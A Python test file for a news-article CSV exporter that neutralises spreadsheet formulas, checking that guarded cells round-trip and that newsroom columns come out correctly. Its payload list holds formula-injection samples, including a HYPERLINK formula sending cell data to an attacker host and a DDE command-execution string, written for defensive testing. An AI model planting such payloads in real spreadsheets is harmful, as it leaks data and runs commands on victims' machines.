"""CSV that spreadsheets show and never calculate, and that can be read back."""

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from kliping.exporters.csv import COLUMNS, guard, make_row, unguard, write
from kliping.models import TaggedArticle
from tests.unit.exporters.conftest import make_bare_record, make_full_record

PAYLOADS = (
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '=HYPERLINK("https://attacker.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    " =1",
    "\xa0=1",
    "\u200b=1",
    "\ufeff@A",
    "\u3000-1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A",
    "\ufe621",
    "\u22121",
    "'=1",
    '"=1"',
    "Pasar;=1",
    'Pasar; "=1"',
    "Pasar\n=1",
    "Pasar\r\n+1",
    "Pasar\t@A",
)

HARMLESS = ("", "Pasar rakyat", "Naik 5 %", "a=b", "Serang-Cilegon", "nama@kabar.example", "'90-an", '"Kami"', "a;b")

FRAGMENTS = st.lists(
    st.sampled_from([*"=+-@\uff1d\uff0b\uff0d\uff20\u2212'\"; \t\r\n\xa0\u200b,a1", "Pasar", "\ufeff"])
).map("".join)


def starts_of_cells(cell: str) -> list[str]:
    """Return the first sign of every cell that a reader may find in one, whatever it parts cells by."""
    pieces = (piece.lstrip('\xa0\u200b\ufeff\u3000" ') for piece in re.split(r"[;\t\r\n]", cell))
    return [unicodedata.normalize("NFKC", piece[:1]).replace("\u2212", "-") for piece in pieces]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_formula_is_left(payload: str) -> None:
    guarded = guard(payload)

    assert guarded != payload
    assert set("=+-@").isdisjoint(starts_of_cells(guarded))
    assert guarded[:1] not in {"\t", "\r", "\n"}
    assert unguard(guarded) == payload


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_text_stays_as_it_is(cell: str) -> None:
    assert guard(cell) == cell == unguard(cell)


@given(FRAGMENTS)
@example("''\n'=")
def test_every_cell_is_safe_and_can_be_read_back(cell: str) -> None:
    guarded = guard(cell)

    assert set("=+-@").isdisjoint(starts_of_cells(guarded))
    assert unguard(guarded) == cell


def test_a_file_is_read_back_cell_by_cell(records: list[TaggedArticle]) -> None:
    file = io.BytesIO()
    write(records, file)
    file.seek(0)

    rows = csv.DictReader(io.TextIOWrapper(file, "utf-8-sig", newline=""))

    read = [[unguard(cell) for cell in row.values()] for row in rows]
    assert read == [make_row(record) for record in records]
    assert rows.fieldnames == list(COLUMNS)


def test_excel_is_told_the_encoding_and_gets_its_line_ends() -> None:
    file = io.BytesIO()
    write([make_full_record(headline="“Kami” kembali")], file)

    assert file.getvalue().startswith(b"\xef\xbb\xbfid,headline,url")
    assert "“Kami” kembali".encode() in file.getvalue()
    assert file.getvalue().endswith(b"\r\n")


def test_a_reader_that_parts_cells_by_semicolons_finds_no_formula() -> None:
    file = io.BytesIO()
    write([make_full_record(headline='Pasar, "murah";=1', article_body='Satu;"=2"\n+3\n\nSelesai.')], file)

    cells = [cell for row in csv.reader(io.StringIO(file.getvalue().decode()), delimiter=";") for cell in row]

    assert [cell for cell in cells if cell.lstrip(' "')[:1] in {"=", "+", "-", "@"}] == []


def test_a_row_says_what_a_newsroom_asks_for() -> None:
    row = dict(zip(COLUMNS, make_row(make_full_record()), strict=True))

    assert row["url"] == "https://kabar-selatan.example/pasar"
    assert (row["day"], row["published"], row["modified"]) == ("2026-03-04", "2026-03-04T10:30:00+07:00", "2026-03-05")
    assert row["authors"] == "Siti Aminah; Redaksi; Budi Santoso"
    assert (row["language"], row["section"], row["genre"]) == ("id", "Ekonomi", "background")
    assert (row["tags"], row["subjects"]) == ("market", "economy")
    assert (row["places"], row["organisations"]) == ("Tanjungsari; Jabar; Oslo", "Pemda Tanjungsari")
    assert row["summary"] == "Pasar rakyat dibuka kembali, Rabu."
    assert row["is_accessible_for_free"] == "false"
    assert row["text"].startswith("TANJUNGSARI - Pasar rakyat")


def test_what_is_not_known_is_an_empty_cell() -> None:
    row = dict(zip(COLUMNS, make_row(make_bare_record()), strict=True))

    known = {"id", "headline", "word_count", "text"}
    assert {name for name, cell in row.items() if cell} == known
